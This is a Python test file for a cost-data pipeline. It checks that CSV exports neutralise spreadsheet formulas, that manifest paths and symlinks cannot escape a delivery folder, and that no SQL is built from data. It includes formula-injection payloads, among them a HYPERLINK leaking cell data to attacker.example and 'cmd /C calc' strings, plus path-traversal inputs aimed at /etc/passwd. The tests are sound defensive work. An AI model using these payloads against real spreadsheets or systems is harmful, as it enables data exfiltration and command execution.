"""Hostile content: formulas in CSV output, paths that leave the delivery, SQL built from data."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from pipelines.cli import main
from pipelines.lib.ingest.landing import pending_deliveries
from pipelines.lib.reporting.csv_safety import neutralise
from pipelines.lib.reporting.focus_export import export_focus
from pipelines.lib.settings import PROJECT_ROOT, FinopsHome
from sources.common.delivery import Delivery
from sources.common.errors import RejectedInput
from sources.common.manifests import listed_data_files

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_prefixes_every_formula_start_and_leaves_plain_text():
    assert [neutralise(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert neutralise("research") == "research"
    assert neutralise("a=b") == "a=b"


def test_focus_export_csv_neutralises_text_but_not_numbers(tmp_path: Path):
    """The writer on a hand-made mart (the dbt model is tested elsewhere): text cells only get the `'`."""
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute("create schema marts")
        con.execute(
            """
            create table marts.focus_cost_and_usage (
                "BillingPeriodStart" timestamp, "ChargePeriodStart" timestamp, "x_SourceFile" varchar,
                "x_SourceRow" bigint, "x_RowOrigin" varchar, "BilledCost" decimal(38, 12), "Tags" varchar
            )
            """
        )
        con.executemany(
            "insert into marts.focus_cost_and_usage values ('2026-09-01', '2026-09-01', 'f.csv', ?, 'source', ?, ?)",
            [[number, Decimal("-12.5"), value] for number, value in enumerate([*HOSTILE, "plain"], start=1)],
        )
    export_focus(warehouse, tmp_path / "out")
    text = (tmp_path / "out" / "focus_cost_and_usage.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["Tags"] for row in rows] == ["'" + value for value in HOSTILE] + ["plain"]
    assert {row["BilledCost"] for row in rows} == {"-12.500000000000"}


def test_cli_sql_csv_neutralises_text_but_not_numbers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys):
    monkeypatch.setenv("FINOPS_HOME", str(tmp_path / "home"))
    FinopsHome(tmp_path / "home").create_folders()
    duckdb.connect(str(tmp_path / "home" / "warehouse.duckdb")).close()
    query = "select ? as tag, -5.5 as amount".replace("?", "'" + HOSTILE[0].replace("'", "''") + "'")
    assert main(["sql", query, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["tag", "amount"], ["'" + HOSTILE[0], "-5.5"]]


# --- paths outside the delivery -------------------------------------------------------------------


def _delivery_with_manifest(tmp_path: Path, listed: list[str]) -> Delivery:
    landing = tmp_path / "landing" / "aws_cur"
    folder = landing / "export"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "part-1.csv").write_text("a\n1\n")
    (folder / "export-Manifest.json").write_text(json.dumps({"reportKeys": listed}))
    return Delivery(source="aws_cur", path=folder, landing_root=landing)


@pytest.mark.parametrize(
    ("listed", "reason"),
    [
        ("s3://bucket/%2e%2e/%2e%2e/etc/passwd", "climbs out"),
        ("..\\..\\etc\\passwd", "climbs out"),
        ("data/./../../outside.csv", "climbs out"),
        ("\\\\server\\share\\secret.csv", "absolute local path"),
        ("ftp://example.org/part-1.csv", "unsupported location scheme"),
    ],
)
def test_more_manifest_paths_outside_the_delivery_are_rejected(tmp_path: Path, listed: str, reason: str):
    delivery = _delivery_with_manifest(tmp_path, [listed])
    with pytest.raises(RejectedInput, match=reason) as rejected:
        listed_data_files(delivery)
    assert rejected.value.file == "export/export-Manifest.json"


def test_manifest_entry_through_a_symlinked_folder_is_rejected(tmp_path: Path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("a\n1\n")
    delivery = _delivery_with_manifest(tmp_path, ["linked/secret.csv"])
    (delivery.path / "linked").symlink_to(outside, target_is_directory=True)
    with pytest.raises(RejectedInput, match="links outside the delivery"):
        listed_data_files(delivery)


def test_a_delivery_file_linking_out_of_the_landing_zone_is_rejected(tmp_path: Path):
    """Dropped straight into the landing zone (no manifest): the link is refused, its target never read."""
    secret = tmp_path / "secret.csv"
    secret.write_text("a\n1\n")
    home = FinopsHome(tmp_path / "home").create_folders()
    folder = home.landing_for("focus") / "run-1"
    folder.mkdir(parents=True)
    (folder / "part-1.csv").symlink_to(secret)
    (home.landing_for("focus") / "single.csv").symlink_to(secret)
    for delivery in pending_deliveries(home, "focus"):
        with pytest.raises(RejectedInput, match="symbolic link, which links outside the delivery"):
            delivery.sha256()


# --- no SQL built from data ---------------------------------------------------------------------

SQL_TEXT = re.compile(
    r"\b(select\b.*\bfrom|insert\s+into|delete\s+from|update\s+\S+\s+set|create\s+(or\s+replace\s+)?"
    r"(table|view|schema)|drop\s+(table|view|schema)|copy\s|attach\s|case\s+when|strftime\(|timezone\()",
    re.IGNORECASE | re.DOTALL,
)
DATA_NAMES = re.compile(
    r"\b(path|paths|file|files|file_name|filename|delivery|deliveries|value|values|row|rows|frame|payload|"
    r"url|body|text|content|sha256|reason|args|argv|query|listed|manifest|environ)\b"
)
"""Names that hold data or file names; none may be pasted into SQL (they go in as `?` parameters)."""
QUOTED_LITERAL = re.compile(r"sql_text(_list)?\(")
"""The lake's file paths in a view or a COPY target, where DuckDB cannot prepare a parameter: quoted as string
literals by the one helper (pipelines/lib/warehouse/lake.py), never pasted raw."""


def _sql_templates() -> list[tuple[str, int, str, list[str]]]:
    """Every f-string, `.format()` or `%` template in the project's code whose text reads as SQL."""
    found = []
    for root in ("sources", "pipelines"):
        for path in sorted((PROJECT_ROOT / root).rglob("*.py")):
            relative = path.relative_to(PROJECT_ROOT).as_posix()
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.JoinedStr):
                    text = "".join(part.value for part in node.values if isinstance(part, ast.Constant))
                    pasted = [ast.unparse(part.value) for part in node.values if isinstance(part, ast.FormattedValue)]
                    if SQL_TEXT.search(text):
                        found.append((relative, node.lineno, "f-string", pasted))
                elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
                    template = node.func.value
                    if isinstance(template, ast.Constant) and SQL_TEXT.search(str(template.value)):
                        found.append((relative, node.lineno, ".format()", [ast.unparse(a) for a in node.args]))
                elif (
                    isinstance(node, ast.BinOp)
                    and isinstance(node.op, ast.Mod)
                    and isinstance(node.left, ast.Constant)
                    and SQL_TEXT.search(str(node.left.value))
                ):
                    found.append((relative, node.lineno, "%", [ast.unparse(node.right)]))
    return found


def test_the_scan_finds_the_sql_it_is_meant_to_police():
    """A guard for the guard: the loader's SQL templates are seen, so an empty scan cannot pass silently."""
    files = {file for file, *_ in _sql_templates()}
    assert {"pipelines/lib/warehouse/loads.py", "pipelines/lib/reporting/focus_export.py"} <= files


def test_no_sql_is_built_by_pasting_data_or_file_names():
    """SQL text may splice in identifiers and fragments from code (table specs, quoted names), never data.

    Values go in as `?` parameters; `.format()` and `%` are not used on SQL at all.
    """
    offences = []
    for file, line, kind, pasted in _sql_templates():
        if kind != "f-string":
            offences.append(f"{file}:{line}: SQL built with {kind}")
            continue
        offences += [
            f"{file}:{line}: pastes {expr!r} into SQL"
            for expr in pasted
            if DATA_NAMES.search(expr) and not QUOTED_LITERAL.match(expr)
        ]
    assert offences == []
